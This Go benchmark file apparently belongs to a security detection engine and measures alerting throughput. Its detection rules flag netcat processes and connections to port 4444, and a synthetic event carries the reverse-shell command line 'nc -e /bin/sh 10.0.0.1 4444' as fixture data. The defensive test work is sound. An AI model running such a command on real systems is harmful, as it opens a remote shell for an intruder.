package detect

import (
	"context"
	"io"
	"runtime"
	"sync/atomic"
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/rule"
	"github.com/kestrel-sec/kestrel/schema"
	"github.com/kestrel-sec/kestrel/sink"
)

// alertingRules alert on every event of alertingBatch: an event rule on
// each exec, a sequence completed by each connect.
func alertingRules(t testing.TB) []*rule.Package {
	return []*rule.Package{
		pkg(t, "single", `process where process.name == "nc"`),
		pkg(t, "seq", `sequence by process.entity_id [process where process.name == "nc"] [network where network.dest_port == 4444]`),
	}
}

func alertingBatch(t testing.TB, pairs int) []*schema.Event {
	exec := ev{1, "process_exec", time.Second, 1, []any{"process.entity_id", "p1", "process.name", "nc",
		"process.executable", "/usr/bin/nc", "process.command_line", "nc -e /bin/sh 10.0.0.1 4444"}}.build(t)
	conn := ev{2, "network_connect", time.Second, 1, []any{"process.entity_id", "p1", "network.dest_port", uint64(4444)}}.build(t)
	var batch []*schema.Event
	for range pairs {
		batch = append(batch, &exec, &conn)
	}
	return batch
}

// alertingDetector returns a Detector over alertingRules whose Output
// delivers to dc's destination.
func alertingDetector(tb testing.TB, dc sink.DestinationConfig) (*Detector, *sink.Output) {
	o, err := sink.New(sink.Config{Destinations: []sink.DestinationConfig{dc}})
	if err != nil {
		tb.Fatal(err)
	}
	d, err := New(Config{Output: o, Rules: alertingRules(tb)})
	if err != nil {
		_ = o.Close(context.Background())
		tb.Fatal(err)
	}
	return d, o
}

// deliveredDest counts the alerts its destination delivered.
type deliveredDest struct {
	sink.Destination
	n atomic.Int64
}

func (d *deliveredDest) Send(ctx context.Context, batch []*sink.Alert) error {
	err := d.Destination.Send(ctx, batch)
	if err == nil {
		d.n.Add(int64(len(batch)))
	}
	return err
}

// BenchmarkAlertPath is detection and delivery together: a batch of 256
// events through a Detector whose rules alert on every event, into a
// sink.Output that encodes each alert and discards it, waiting for the
// batch's last alert to be delivered (so no queue builds up and the
// Output's backpressure path stays out of the figure). ns/event covers
// the whole path; allocs/op are per batch, every goroutine's.
func BenchmarkAlertPath(b *testing.B) {
	dest := &deliveredDest{Destination: sink.NewWriterDestination("discard", io.Discard)}
	d, o := alertingDetector(b, sink.DestinationConfig{Dest: dest, Batch: sink.BatchConfig{MaxCount: 256}})
	defer o.Close(context.Background())
	batch := alertingBatch(b, 128)
	want := int64(0)
	b.ReportAllocs()
	for b.Loop() {
		d.Handle(0, batch)
		want += int64(len(batch))
		for dest.n.Load() < want {
			runtime.Gosched()
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(want), "ns/event")
}
